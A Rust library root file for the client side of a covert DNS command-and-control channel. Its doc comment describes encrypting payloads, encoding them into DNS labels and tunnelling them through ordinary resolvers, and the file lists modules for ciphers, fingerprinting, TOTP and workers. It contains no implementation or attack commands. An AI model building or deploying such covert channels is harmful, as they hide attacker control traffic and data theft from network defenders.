//! Client-side transport for a covert DNS command-and-control channel.
//!
//! Application payloads ("envelopes") are encrypted, framed into a small
//! tagged wire record, encoded into a DNS-safe alphabet, split into
//! labels, and transported as `A`/`TXT` queries against ordinary
//! recursive resolvers. See [`Session`] for the public entry point.

pub mod cipher;
pub mod config;
pub mod encoding;
pub mod error;
pub mod fingerprint;
pub mod framer;
pub mod ids;
pub mod resolver;
pub mod session;
pub mod totp;
pub mod worker;

pub use cipher::{CipherContext, EccEncryptor, X25519HybridEncryptor};
pub use config::ClientConfig;
pub use error::{Result, TunnelError};
pub use session::Session;
pub use totp::{Rfc6238Totp, TotpCode};
